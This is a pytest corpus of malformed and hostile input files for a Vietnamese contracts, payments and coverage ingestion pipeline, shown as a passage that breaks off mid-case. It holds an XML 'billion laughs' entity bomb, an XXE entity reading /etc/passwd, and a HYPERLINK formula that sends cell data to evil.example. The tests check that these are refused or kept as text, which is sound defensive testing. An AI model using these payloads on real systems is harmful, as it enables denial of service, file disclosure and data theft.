"""The bad-input corpus: files as they arrive in a real inbox, each with its exact outcome.

Every case writes its files into an empty inbox and states what must happen: the rows load
(with what values), one row is quarantined (with which reason, column, row and value), or the
file is refused (with which message) and nothing is written. Every load also checks that
rows read = rows loaded + rows quarantined for every file (ingest_testkit.load).
"""

import datetime as dt
import io
import json
import unicodedata
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from ingest_testkit import (
    CONTRACT_HEADER,
    CONTRACT_ROW,
    COVERAGE_HEADER,
    COVERAGE_ROW,
    PAYMENT_HEADER,
    PAYMENT_ROW,
    cp1258,
    csv_text,
    load,
    quarantined,
    rows_of,
    write_agencies,
    write_csv,
    write_xlsx,
)

from ingestion.errors import BadInputError
from ingestion.load import load_source
from ingestion.normalise import fold


@dataclass(frozen=True)
class Loaded:
    rows: int
    duplicates: int = 0
    check: Callable | None = None  # check(con): assertions on the loaded rows


@dataclass(frozen=True)
class Quarantined:
    reason_code: str
    column: str | None
    row: int
    value: str | None
    loaded: int = 0  # the file's other rows, which load


@dataclass(frozen=True)
class Refused:
    fragments: tuple[str, ...]  # all in str(BadInputError)
    row: int | None = None
    column: str | None = None


@dataclass(frozen=True)
class Case:
    name: str
    source: str
    write: Callable[[Path], object]
    expect: Loaded | Quarantined | Refused
    agencies: bool  # load the agencies list first


CASES: list[Case] = []


def case(name: str, source: str, expect, *, agencies: bool = False):
    def register(write):
        CASES.append(Case(name, source, write, expect, agencies))
        return write

    return register


def changed(header: list[str], row: list[object], **by_label) -> list[object]:
    """`row` with some cells replaced, named by their header label without diacritics."""
    keys = {
        fold(label).lower().replace(" ", "_").replace("(", "").replace(")", ""): i
        for i, label in enumerate(header)
    }
    out = list(row)
    for key, value in by_label.items():
        out[keys[key]] = value
    return out


def contract(**cells) -> list[object]:
    return changed(CONTRACT_HEADER, CONTRACT_ROW, **cells)


def coverage(**cells) -> list[object]:
    return changed(COVERAGE_HEADER, COVERAGE_ROW, **cells)


def holding(source: str, columns: str, *expected: tuple) -> Callable:
    """A check that the loaded rows of `source` hold exactly `expected` in `columns`."""

    def check(con):
        got = [tuple(r.values()) for r in rows_of(con, source, columns)]
        assert got == list(expected)

    return check


VIETNAMESE_TITLE = "Đài Phát thanh và Truyền hình Hải Phòng: Lễ hội Hoa Phượng Đỏ rực rỡ sắc màu"
ENCODED = [COVERAGE_HEADER, coverage(tieu_de=VIETNAMESE_TITLE)]
TITLE_KEPT = holding("coverage", "title", (VIETNAMESE_TITLE,))

# --- encodings ----------------------------------------------------------------------------


@case("utf8", "coverage", Loaded(1, check=TITLE_KEPT))
def _(inbox):
    write_csv(inbox / "coverage" / "tin.csv", ENCODED)


@case("utf8-bom", "coverage", Loaded(1, check=holding("coverage", "agency", ("Báo Hải Phòng",))))
def _(inbox):
    write_csv(inbox / "coverage" / "tin.csv", ENCODED, encoding="utf-8-sig")


@case("utf16-bom", "coverage", Loaded(1, check=TITLE_KEPT))
def _(inbox):
    write_csv(inbox / "coverage" / "tin.csv", ENCODED, encoding="utf-16")


@case("utf16le-no-bom", "coverage", Loaded(1, check=TITLE_KEPT))
def _(inbox):
    write_csv(inbox / "coverage" / "tin.csv", ENCODED, encoding="utf-16-le")


@case("utf16be-no-bom", "coverage", Loaded(1, check=TITLE_KEPT))
def _(inbox):
    write_csv(inbox / "coverage" / "tin.csv", ENCODED, encoding="utf-16-be")


@case("windows-1258", "coverage", Loaded(1, check=TITLE_KEPT))
def _(inbox):
    path = write_csv(inbox / "coverage" / "tin.csv", ENCODED, encoding="cp1258")
    assert b"\xcc" in path.read_bytes() or b"\xec" in path.read_bytes()  # combining tones


@case(
    "windows-1258-after-long-ascii-head",
    "payments",
    Loaded(1, check=holding("payments", "payment_id", ("Chứng từ số 1",))),
)
def _(inbox):
    padding = [["# " + "x" * 100] for _ in range(3000)]  # > the encoding sniffer's head
    rows = [PAYMENT_HEADER, *[[""] * 5 for _ in padding], ["Chứng từ số 1", *PAYMENT_ROW[1:]]]
    (inbox / "payments").mkdir()
    (inbox / "payments" / "ct.csv").write_bytes(cp1258(csv_text(rows)))


@case("nfd-text", "coverage", Loaded(1, check=TITLE_KEPT))
def _(inbox):
    text = unicodedata.normalize("NFD", csv_text(ENCODED))
    (inbox / "coverage").mkdir()
    (inbox / "coverage" / "tin.csv").write_text(text, encoding="utf-8")


# --- layout -------------------------------------------------------------------------------


@case("title-rows-csv", "contracts", Loaded(1, check=holding("contracts", "_row_number", (4,))))
def _(inbox):
    rows = [["SỞ THÔNG TIN VÀ TRUYỀN THÔNG"], ["Danh sách hợp đồng năm 2025"], CONTRACT_HEADER]
    write_csv(inbox / "contracts" / "hd.csv", [*rows, CONTRACT_ROW])


@case(
    "title-rows-xlsx-merged-title",
    "contracts",
    Loaded(1, check=holding("contracts", "_row_number, contract_id", (4, "01/2025/HĐ-STTTT"))),
)
def _(inbox):
    rows = [["DANH SÁCH HỢP ĐỒNG HỢP TÁC TRUYỀN THÔNG NĂM 2025"], [], CONTRACT_HEADER, CONTRACT_ROW]
    write_xlsx(inbox / "contracts" / "hd.xlsx", rows, merges=("A1:L1",))


MERGED_DOWN = holding(
    "contracts",
    "contract_id, agency, deliverable_type",
    ("07/2025/HĐ", "Báo Nhân Dân", "article"),
    ("07/2025/HĐ", "Báo Nhân Dân", "news"),
    ("07/2025/HĐ", "Báo Nhân Dân", "photo"),
)


@case("merged-cells-xlsx", "contracts", Loaded(3, check=MERGED_DOWN))
def _(inbox):
    first = contract(so_hop_dong="07/2025/HĐ", co_quan_bao_chi="Báo Nhân Dân")
    second = contract(so_hop_dong=None, co_quan_bao_chi=None, loai_san_pham="Tin")
    third = contract(so_hop_dong=None, co_quan_bao_chi=None, loai_san_pham="Ảnh")
    rows = [CONTRACT_HEADER, first, second, third]
    write_xlsx(inbox / "contracts" / "hd.xlsx", rows, merges=("A2:A4", "B2:B4"))


@case(
    "formula-without-saved-value",
    "contracts",
    Quarantined("formula_without_value", "Thành tiền", 2, "=J2*K2"),
)
def _(inbox):
    write_xlsx(inbox / "contracts" / "hd.xlsx", [CONTRACT_HEADER, contract(thanh_tien="=J2*K2")])


TYPED_CELLS = holding(
    "contracts",
    "signed_on, start_date, quantity, unit_price_vnd, amount_vnd",
    (dt.date(2025, 1, 10), dt.date(2025, 1, 15), 2.5, 20_000_000, 50_000_000),
)


@case("excel-typed-cells", "contracts", Loaded(1, check=TYPED_CELLS))
def _(inbox):
    row = contract(
        ngay_ky=dt.datetime(2025, 1, 10),
        ngay_bat_dau=dt.date(2025, 1, 15),
        so_luong=2.5,
        don_gia=20_000_000,
        thanh_tien=50_000_000.0,
    )
    write_xlsx(inbox / "contracts" / "hd.xlsx", [CONTRACT_HEADER, row])


@case("english-and-accent-free-upper-case-headers", "payments", Loaded(1))
def _(inbox):
    header = ["PAYMENT ID", "SO HOP DONG", "ngay chi", "Amount_VND", "  LOAI  "]
    write_csv(inbox / "payments" / "ct.csv", [header, PAYMENT_ROW])


@case(
    "semicolon-delimiter",
    "payments",
    Loaded(1, check=holding("payments", "amount_vnd", (15_000_000,))),
)
def _(inbox):
    write_csv(inbox / "payments" / "ct.csv", [PAYMENT_HEADER, PAYMENT_ROW], delimiter=";")


@case("header-only", "payments", Loaded(0))
def _(inbox):
    write_csv(inbox / "payments" / "ct.csv", [PAYMENT_HEADER])


# --- wrong values: quarantined, the rest of the file loads --------------------------------


@case(
    "wrong-type-quantity",
    "contracts",
    Quarantined("invalid_number", "Số lượng", 3, "mười", loaded=1),
)
def _(inbox):
    write_csv(
        inbox / "contracts" / "hd.csv", [CONTRACT_HEADER, CONTRACT_ROW, contract(so_luong="mười")]
    )


@case("wrong-type-money", "contracts", Quarantined("invalid_money", "Đơn giá", 2, "năm triệu"))
def _(inbox):
    write_csv(inbox / "contracts" / "hd.csv", [CONTRACT_HEADER, contract(don_gia="năm triệu")])


@case("negative-money", "contracts", Quarantined("negative_money", "Thành tiền", 2, "-50.000.000"))
def _(inbox):
    write_csv(inbox / "contracts" / "hd.csv", [CONTRACT_HEADER, contract(thanh_tien="-50.000.000")])


@case("negative-views", "coverage", Quarantined("negative_number", "Lượt xem", 2, "-321"))
def _(inbox):
    write_csv(inbox / "coverage" / "tin.csv", [COVERAGE_HEADER, coverage(luot_xem="-321")])


@case(
    "impossible-date-31-02",
    "contracts",
    Quarantined("impossible_date", "Ngày bắt đầu", 2, "31/02/2025"),
)
def _(inbox):
    write_csv(
        inbox / "contracts" / "hd.csv", [CONTRACT_HEADER, contract(ngay_bat_dau="31/02/2025")]
    )


@case("two-digit-year", "payments", Quarantined("invalid_date", "Ngày chi", 2, "20/2/25"))
def _(inbox):
    write_csv(
        inbox / "payments" / "ct.csv",
        [PAYMENT_HEADER, changed(PAYMENT_HEADER, PAYMENT_ROW, ngay_chi="20/2/25")],
    )


@case("implausible-date", "contracts", Quarantined("implausible_date", "Ngày ký", 2, "10/01/1925"))
def _(inbox):
    write_csv(inbox / "contracts" / "hd.csv", [CONTRACT_HEADER, contract(ngay_ky="10/01/1925")])


@case(
    "end-before-start",
    "contracts",
    Quarantined("end_before_start", "Ngày kết thúc", 2, "01/01/2025"),
)
def _(inbox):
    write_csv(
        inbox / "contracts" / "hd.csv", [CONTRACT_HEADER, contract(ngay_ket_thuc="01/01/2025")]
    )


@case(
    "unknown-deliverable-type",
    "contracts",
    Quarantined("unknown_deliverable_type", "Loại sản phẩm", 2, "Podcast"),
)
def _(inbox):
    write_csv(inbox / "contracts" / "hd.csv", [CONTRACT_HEADER, contract(loai_san_pham="Podcast")])


@case("unknown-channel", "contracts", Quarantined("unknown_channel", "Loại hình", 2, "Báo tường"))
def _(inbox):
    write_csv(inbox / "contracts" / "hd.csv", [CONTRACT_HEADER, contract(loai_hinh="Báo tường")])


@case("theme-area-out-of-range", "contracts", Quarantined("unknown_theme_area", "Lĩnh vực", 2, "6"))
def _(inbox):
    write_csv(inbox / "contracts" / "hd.csv", [CONTRACT_HEADER, contract(linh_vuc="6")])


@case(
    "unknown-payment-kind",
    "payments",
    Quarantined("unknown_payment_kind", "Loại", 2, "Chuyển khoản"),
)
def _(inbox):
    row = changed(PAYMENT_HEADER, PAYMENT_ROW, loai="Chuyển khoản")
    write_csv(inbox / "payments" / "ct.csv", [PAYMENT_HEADER, row])


@case(
    "malformed-url",
    "coverage",
    Quarantined("invalid_url", "Đường dẫn", 2, "htps//vnexpress.net/bai-1.html"),
)
def _(inbox):
    write_csv(
        inbox / "coverage" / "tin.csv",
        [COVERAGE_HEADER, coverage(duong_dan="htps//vnexpress.net/bai-1.html")],
    )


@case("unreadable-yes-no", "coverage", Quarantined("invalid_boolean", "Nghiệm thu", 2, "có lẽ"))
def _(inbox):
    write_csv(inbox / "coverage" / "tin.csv", [COVERAGE_HEADER, coverage(nghiem_thu="có lẽ")])


@case(
    "missing-required-title",
    "coverage",
    Quarantined("missing_required", "Tiêu đề", 3, "  ", loaded=1),
)
def _(inbox):
    write_csv(
        inbox / "coverage" / "tin.csv", [COVERAGE_HEADER, COVERAGE_ROW, coverage(tieu_de="  ")]
    )


@case("oversized-field", "coverage", Quarantined("field_too_long", "Tóm tắt", 2, "Ô" * 1000))
def _(inbox):
    write_csv(inbox / "coverage" / "tin.csv", [COVERAGE_HEADER, coverage(tom_tat="Ô" * 10_001)])


@case("field-at-the-limit", "coverage", Loaded(1))
def _(inbox):
    write_csv(inbox / "coverage" / "tin.csv", [COVERAGE_HEADER, coverage(tom_tat="Ô" * 10_000)])


@case(
    "unknown-agency",
    "contracts",
    Quarantined("unknown_agency", "Cơ quan báo chí", 3, "Trang tin Hải Phòng 24h", loaded=1),
    agencies=True,
)
def _(inbox):
    rows = [CONTRACT_HEADER, CONTRACT_ROW, contract(co_quan_bao_chi="Trang tin Hải Phòng 24h")]
    write_csv(inbox / "contracts" / "hd.csv", rows)


SECOND_COPY_FLAGGED = holding(
    "coverage", "_row_number, _is_duplicate", (2, False), (3, True), (4, False)
)


@case("duplicate-rows", "coverage", Loaded(3, duplicates=1, check=SECOND_COPY_FLAGGED))
def _(inbox):
    other = coverage(duong_dan="https://baohaiphong.vn/khac.html")
    write_csv(inbox / "coverage" / "tin.csv", [COVERAGE_HEADER, COVERAGE_ROW, COVERAGE_ROW, other])


MIXED_DATES = {
    "15/03/2025": dt.date(2025, 3, 15),
    "2025-03-16": dt.date(2025, 3, 16),
    "3/4/2025": dt.date(2025, 4, 3),
    "ngày 5 tháng 6 năm 2025": dt.date(2025, 6, 5),
    "45731": dt.date(2025, 3, 15),  # an Excel day number
    "01-07-2025": dt.date(2025, 7, 1),
}
DATES_READ = holding("payments", "paid_on", *[(d,) for d in MIXED_DATES.values()])


@case("mixed-date-formats", "payments", Loaded(len(MIXED_DATES), check=DATES_READ))
def _(inbox):
    rows = [
        [f"PC-{i}", "01/2025/HĐ", text, "1.000.000", "Thanh toán"]
        for i, text in enumerate(MIXED_DATES)
    ]
    write_csv(inbox / "payments" / "ct.csv", [PAYMENT_HEADER, *rows])


MONEY = {
    "1.250.000.000": 1_250_000_000,
    "1,250,000,000": 1_250_000_000,
    "1.250.000.000 đ": 1_250_000_000,
    "1,25 tỷ": 1_250_000_000,
    "500 triệu": 500_000_000,
    "2.500.000₫": 2_500_000,
    "2.500.000 VND": 2_500_000,
    "VNĐ 3.000.000": 3_000_000,
    "1.5 tr": 1_500_000,
    "1,250,000.00": 1_250_000,
    "2.000.000 đồng": 2_000_000,
}


@case(
    "money-formats",
    "payments",
    Loaded(len(MONEY), check=holding("payments", "amount_vnd", *[(v,) for v in MONEY.values()])),
)
def _(inbox):
    rows = [
        [f"PC-{i}", "01/2025/HĐ", "20/02/2025", text, "Thanh toán"] for i, text in enumerate(MONEY)
    ]
    write_csv(inbox / "payments" / "ct.csv", [PAYMENT_HEADER, *rows])


def payment(**cells) -> list[object]:
    return changed(PAYMENT_HEADER, PAYMENT_ROW, **cells)


# Amounts with no single whole reading: quarantined with the reason, never guessed.
for _text, _reason in {
    "238,000.000": "ambiguous_money",
    "1.500 triệu": "ambiguous_money",
    "1e8": "invalid_money",
    "(114.000.000)": "negative_money",  # payments take no negative amounts
    "1.250.000,5": "fractional_money",
}.items():

    @case(f"payment-amount-{_text}", "payments", Quarantined(_reason, "Số tiền", 3, _text, 1))
    def _(inbox, text=_text):
        rows = [PAYMENT_HEADER, PAYMENT_ROW, payment(so_chung_tu="PC-002", so_tien=text)]
        write_csv(inbox / "payments" / "ct.csv", rows)


# Payment dates that cannot count towards the year: quarantined with the reason.
for _text, _reason in {
    "15/03/2099": "outside_year_window",  # most of the file is 2025
    "15/03/2023": "outside_year_window",
    "10/01/1925": "implausible_date",
    "05/03/25": "invalid_date",  # a two-digit year
    "29/02/2025": "impossible_date",
    "31/09/2025": "impossible_date",
}.items():

    @case(f"payment-dated-{_text}", "payments", Quarantined(_reason, "Ngày chi", 4, _text, 2))
    def _(inbox, text=_text):
        rows = [
            PAYMENT_HEADER,
            PAYMENT_ROW,
            payment(so_chung_tu="PC-002", ngay_chi="31/12/2025"),
            payment(so_chung_tu="PC-003", ngay_chi=text),
        ]
        write_csv(inbox / "payments" / "ct.csv", rows)


@case(
    "payments-file-of-last-year-loads",
    "payments",
    Loaded(
        2, check=holding("payments", "paid_on", (dt.date(2024, 3, 1),), (dt.date(2025, 1, 20),))
    ),
)
def _(inbox):
    rows = [
        PAYMENT_HEADER,
        payment(ngay_chi="01/03/2024"),
        payment(so_chung_tu="PC-002", ngay_chi="20/01/2025"),
    ]
    write_csv(inbox / "payments" / "ct-2024.csv", rows)


@case(
    "contract-ending-in-2099",
    "contracts",
    Quarantined("outside_year_window", "Ngày kết thúc", 3, "31/12/2099", loaded=1),
)
def _(inbox):
    rows = [
        CONTRACT_HEADER,
        CONTRACT_ROW,
        contract(so_hop_dong="02/2025", ngay_ket_thuc="31/12/2099"),
    ]
    write_csv(inbox / "contracts" / "hd.csv", rows)


@case(
    "jsonl-broken-line",
    "coverage",
    Quarantined("invalid_json", None, 2, '{"agency": "Báo Hải Phòng", "title":', loaded=2),
)
def _(inbox):
    good = {"agency": "Báo Hải Phòng", "published_at": "2025-03-15", "title": "Tin một"}
    lines = [json.dumps(good, ensure_ascii=False), '{"agency": "Báo Hải Phòng", "title": ']
    lines.append(json.dumps({**good, "title": "Tin hai"}, ensure_ascii=False))
    (inbox / "coverage").mkdir()
    (inbox / "coverage" / "tin.jsonl").write_text("\n".join(lines), encoding="utf-8")


def rss(items: str, prolog: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}\n'
        f'<rss version="2.0"><channel><title>Tin</title>{items}</channel></rss>'
    )


ITEM = "<item><title>Hải Phòng đón khách</title><link>{link}</link><pubDate>{date}</pubDate></item>"


@case(
    "feed-item-from-unknown-host",
    "coverage",
    Quarantined("unknown_agency", "link", 1, "trang-la.example"),
    agencies=True,
)
def _(inbox):
    item = ITEM.format(
        link="https://trang-la.example/a.html", date="Tue, 15 Apr 2025 06:00:00 +0700"
    )
    (inbox / "coverage").mkdir()
    (inbox / "coverage" / "trang-la.rss").write_text(rss(item), encoding="utf-8")


@case(
    "feed-unreadable-date",
    "coverage",
    Quarantined("invalid_date", "pubDate", 2, "sáng nay", loaded=1),
    agencies=True,
)
def _(inbox):
    good = ITEM.format(link="https://baohaiphong.vn/a.html", date="Tue, 15 Apr 2025 06:00:00 +0700")
    bad = ITEM.format(link="https://baohaiphong.vn/b.html", date="sáng nay")
    (inbox / "coverage").mkdir()
    (inbox / "coverage" / "bhp.rss").write_text(rss(good + bad), encoding="utf-8")


# --- files that cannot be read: refused, nothing written ----------------------------------


@case(
    "missing-column",
    "contracts",
    Refused(
        ("contracts/hd.csv", "row 1", "'Thành tiền'", "amount_vnd"), row=1, column="Thành tiền"
    ),
)
def _(inbox):
    write_csv(inbox / "contracts" / "hd.csv", [CONTRACT_HEADER[:-1], CONTRACT_ROW[:-1]])


@case(
    "missing-column-xlsx-after-title",
    "payments",
    Refused(
        ("payments/ct.xlsx", "row 3", "'Số tiền'", "sheet 'Chứng từ'"), row=3, column="Số tiền"
    ),
)
def _(inbox):
    rows = [["Chứng từ chi 2025"], [], [h for h in PAYMENT_HEADER if h != "Số tiền"]]
    write_xlsx(inbox / "payments" / "ct.xlsx", rows, sheet="Chứng từ")


@case("empty-file", "payments", Refused(("payments/ct.csv", "an empty file")))
def _(inbox):
    (inbox / "payments").mkdir()
    (inbox / "payments" / "ct.csv").write_bytes(b"")


@case("blank-lines-only", "payments", Refused(("payments/ct.csv", "an empty file")))
def _(inbox):
    (inbox / "payments").mkdir()
    (inbox / "payments" / "ct.csv").write_bytes(b"\r\n  \r\n\t\r\n")


@case(
    "no-recognisable-columns",
    "payments",
    Refused(("payments/ct.csv", "no recognisable column names", "'Số chứng từ'")),
)
def _(inbox):
    write_csv(inbox / "payments" / "ct.csv", [["Họ tên", "Địa chỉ"], ["Nguyễn Văn A", "Lê Chân"]])


@case(
    "data-without-header", "payments", Refused(("payments/ct.csv", "no recognisable column names"))
)
def _(inbox):
    write_csv(inbox / "payments" / "ct.csv", [PAYMENT_ROW, PAYMENT_ROW])


@case("corrupt-xlsx", "contracts", Refused(("contracts/hd.xlsx", "a readable .xlsx workbook")))
def _(inbox):
    (inbox / "contracts").mkdir()
    (inbox / "contracts" / "hd.xlsx").write_bytes(b"Day khong phai tep Excel \x00\xff" * 20)


@case("truncated-xlsx", "contracts", Refused(("contracts/hd.xlsx", "a readable .xlsx workbook")))
def _(inbox):
    path = write_xlsx(inbox / "contracts" / "hd.xlsx", [CONTRACT_HEADER, CONTRACT_ROW])
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


@case(
    "xlsx-missing-its-sheet",
    "contracts",
    Refused(("contracts/hd.xlsx", "no recognisable column names")),
)
def _(inbox):
    path = write_xlsx(inbox / "contracts" / "hd.xlsx", [CONTRACT_HEADER, CONTRACT_ROW])
    with zipfile.ZipFile(path) as source:
        parts = {n: source.read(n) for n in source.namelist() if "worksheets/sheet" not in n}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as target:
        for name, data in parts.items():
            target.writestr(name, data)
    path.write_bytes(buffer.getvalue())


@case(
    "legacy-xls",
    "contracts",
    Refused(("contracts/hd.xls", "an .xlsx workbook or a .csv file", "a .xls file")),
)
def _(inbox):
    (inbox / "contracts").mkdir()
    (inbox / "contracts" / "hd.xls").write_bytes(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    )


BILLION_LAUGHS = """<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>"""


@case(
    "xml-bomb-billion-laughs",
    "coverage",
    Refused(("coverage/bom.rss", "without entity declarations", "refused as unsafe")),
)
def _(inbox):
    item = ITEM.format(link="https://baohaiphong.vn/a.html", date="&lol9;")
    (inbox / "coverage").mkdir()
    (inbox / "coverage" / "bom.rss").write_text(rss(item, BILLION_LAUGHS), encoding="utf-8")


@case(
    "xml-external-entity", "coverage", Refused(("coverage/xxe.xml", "without entity declarations"))
)
def _(inbox):
    prolog = '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    item = "<item><title>&xxe;</title><link>https://baohaiphong.vn/a.html</link></item>"
    (inbox / "coverage").mkdir()
    (inbox / "coverage" / "xxe.xml").write_text(rss(item, prolog), encoding="utf-8")


@case(
    "malformed-xml",
    "coverage",
    Refused(("coverage/hong.rss", "row 3", "well-formed XML"), row=3, column="18"),
)
def _(inbox):
    text = (
        '<?xml version="1.0"?>\n'
        '<rss version="2.0"><channel>\n'
        "<item><title>Tin</item>\n"  # <title> left open: line 3
        "</channel></rss>"
    )
    (inbox / "coverage").mkdir()
    (inbox / "coverage" / "hong.rss").write_text(text, encoding="utf-8")


@case(
    "xml-that-is-not-a-feed",
    "coverage",
    Refused(("coverage/trang.xml", "an RSS 2.0 or Atom feed", "XML of another kind")),
)
def _(inbox):
    (inbox / "coverage").mkdir()
    (inbox / "coverage" / "trang.xml").write_text(
        "<html><body><p>Xin chào</p></body></html>", encoding="utf-8"
    )


@case("oversized-feed", "coverage", Refused(("coverage/lon.rss", "a feed under 20 MiB")))
def _(inbox):
    item = ITEM.format(link="https://baohaiphong.vn/a.html", date="Tue, 15 Apr 2025 06:00:00 +0700")
    (inbox / "coverage").mkdir()
    padding = "<!--" + "x" * (20 * 2**20) + "-->"
    (inbox / "coverage" / "lon.rss").write_text(rss(item + padding), encoding="utf-8")


@case(
    "jsonl-without-objects",
    "coverage",
    Refused(("coverage/tin.jsonl", "row 1", "JSON Lines"), row=1),
)
def _(inbox):
    (inbox / "coverage").mkdir()
    (inbox / "coverage" / "tin.jsonl").write_text("tiêu đề,ngày đăng\nmột,hai\n", encoding="utf-8")


@case(
    "utf8-bom-with-broken-bytes",
    "payments",
    Refused(("payments/ct.csv", "not valid utf-8", "line 3, byte offset"), row=3),
)
def _(inbox):
    (inbox / "payments").mkdir()
    text = csv_text([PAYMENT_HEADER, PAYMENT_ROW]).encode("utf-8")
    (inbox / "payments" / "ct.csv").write_bytes(b"\xef\xbb\xbf" + text + b"\xff\xfe\xfa")


# --- records that do not fit the header ---------------------------------------------------

UNQUOTED_AMOUNT = "PC-002,01/2025/HĐ-STTTT,20/02/2025,Thanh toán,81,550,000"


@case(
    "unquoted-comma-amount-in-last-column",
    "payments",
    Quarantined("wrong_field_count", None, 3, UNQUOTED_AMOUNT, loaded=1),
)
def _(inbox):
    header = ["Số chứng từ", "Số hợp đồng", "Ngày chi", "Loại", "Số tiền"]
    good = "PC-001,01/2025/HĐ-STTTT,20/02/2025,Tạm ứng,15.000.000"
    (inbox / "payments").mkdir()
    text = "\r\n".join([",".join(header), good, UNQUOTED_AMOUNT, ""])
    (inbox / "payments" / "ct.csv").write_text(text, encoding="utf-8")


@case(
    "row-with-fewer-fields",
    "payments",
    Quarantined("wrong_field_count", None, 2, "PC-001,01/2025/HĐ-STTTT,20/02/2025,15.000.000"),
)
def _(inbox):
    (inbox / "payments").mkdir()
    text = ",".join(PAYMENT_HEADER) + "\nPC-001,01/2025/HĐ-STTTT,20/02/2025,15.000.000\n"
    (inbox / "payments" / "ct.csv").write_text(text, encoding="utf-8")


MIXED_ENDINGS = holding(
    "payments",
    "_row_number, payment_id",
    *[(line, f"PC-{line}") for line in (2, 3, 4, 5, 6)],
)


@case("mixed-line-endings-cr-lf-crlf", "payments", Loaded(5, check=MIXED_ENDINGS))
def _(inbox):
    rows = [",".join(PAYMENT_HEADER)] + [
        f"PC-{line},01/2025/HĐ-STTTT,20/02/2025,1.000.000,Thanh toán" for line in range(2, 7)
    ]
    endings = ["\r\n", "\r", "\n", "\r", "\r\n", "\n"]
    text = "".join(row + end for row, end in zip(rows, endings, strict=True))
    (inbox / "payments").mkdir()
    (inbox / "payments" / "ct.csv").write_bytes(text.encode("utf-8"))


@case("nul-byte-in-a-cell", "payments", Quarantined("nul_byte", "Số chứng từ", 3, "PC\u2400002", 1))
def _(inbox):
    (inbox / "payments").mkdir()
    text = csv_text([PAYMENT_HEADER, PAYMENT_ROW, payment(so_chung_tu="PC\x00002")])
    (inbox / "payments" / "ct.csv").write_bytes(text.encode("utf-8"))


BOM_THEN_1258 = b"\xef\xbb\xbf" + cp1258(csv_text([PAYMENT_HEADER, PAYMENT_ROW]))


@case(
    "utf8-bom-then-windows-1258",
    "payments",
    Refused(
        (
            "payments/ct.csv",
            f"not valid utf-8 at line 1, byte offset {BOM_THEN_1258.index(cp1258('ố'))}",
            "starts with a UTF-8 BOM",
        ),
        row=1,
    ),
)
def _(inbox):
    (inbox / "payments").mkdir()
    (inbox / "payments" / "ct.csv").write_bytes(BOM_THEN_1258)


@case(
    "duplicated-amount-header",
    "payments",
    Refused(
        ("payments/ct.csv", "row 1", "D ('Số tiền') and F ('Số tiền')", "amount_vnd"),
        row=1,
        column="Số tiền",
    ),
)
def _(inbox):
    rows = [[*PAYMENT_HEADER, "Số tiền"], [*PAYMENT_ROW, "14.000.000"]]
    write_csv(inbox / "payments" / "ct.csv", rows)


@case(
    "amount-and-total-headers-in-one-sheet",
    "payments",
    Refused(
        ("payments/ct.xlsx", "D ('Số tiền') and F ('Thành tiền')", "sheet 'Chi'"),
        row=1,
        column="Thành tiền",
    ),
)
def _(inbox):
    rows = [[*PAYMENT_HEADER, "Thành tiền"], [*PAYMENT_ROW, "14.000.000"]]
    write_xlsx(inbox / "payments" / "ct.xlsx", rows, sheet="Chi")


BIDI_TITLE = "Hải Phòng \u202etrao giải\u202c báo chí \u2066năm 2025\u2069\u200f"
BIDI_REMOVED = holding(
    "coverage", "title, agency", ("Hải Phòng trao giải báo chí năm 2025", "Báo Hải Phòng")
)


@case("bidi-controls-removed-csv", "coverage", Loaded(1, check=BIDI_REMOVED))
def _(inbox):
    row = coverage(tieu_de=BIDI_TITLE, co_quan_bao_chi="\u202bBáo Hải Phòng\u200e")
    write_csv(inbox / "coverage" / "tin.csv", [COVERAGE_HEADER, row])


@case("bidi-controls-removed-xlsx", "coverage", Loaded(1, check=BIDI_REMOVED))
def _(inbox):
    row = coverage(tieu_de=BIDI_TITLE, co_quan_bao_chi="\u202dBáo Hải Phòng\u202c")
    write_xlsx(inbox / "coverage" / "tin.xlsx", [COVERAGE_HEADER, row])


FORMULA_TEXT = '=HYPERLINK("https://evil.example/?q="&A1,"Bấm vào đây")'


@case(
    "formula-text-stays-text",
    "coverage",
    Loaded(1, check=holding("coverage", "title, summary", (FORMULA_TEXT, "@SUM(1+1)"))),
)
def _(inbox):
    row = coverage(tieu_de=FORMULA_TEXT, tom_tat="@SUM(1+1)")
    write_csv(inbox / "coverage" / "tin.csv", [COVERAGE_HEADER, row])


STRAY_QUOTES = holding(
    "coverage",
    "_row_number, title",
    (2, 'Tivi 55" và 65" giá rẻ'),
    (3, "Dòng một\nDòng hai"),
    (5, "Hải Phòng đón khách"),
)


@case("stray-quote-inside-an-unquoted-cell", "coverage", Loaded(3, check=STRAY_QUOTES))
def _(inbox):
    rest = ",".join(COVERAGE_ROW[3:])
    text = (
        ",".join(COVERAGE_HEADER)
        + f'\nBáo Hải Phòng,15/03/2025,Tivi 55" và 65" giá rẻ,{rest}'
        + f'\nBáo Hải Phòng,15/03/2025,"Dòng một\nDòng hai",{rest}'
        + f"\nBáo Hải Phòng,15/03/2025,Hải Phòng đón khách,{rest}\n"
    )
    (inbox / "coverage").mkdir()
    (inbox / "coverage" / "tin.csv").write_text(text, encoding="utf-8")


@case(
    "quotes-inside-an-unquoted-cell-with-a-comma",
    "coverage",
    Quarantined(
        "wrong_field_count",
        None,
        3,
        'Báo Hải Phòng,15/03/2025,Tivi 55", 65" giá rẻ,' + ",".join(COVERAGE_ROW[3:]),
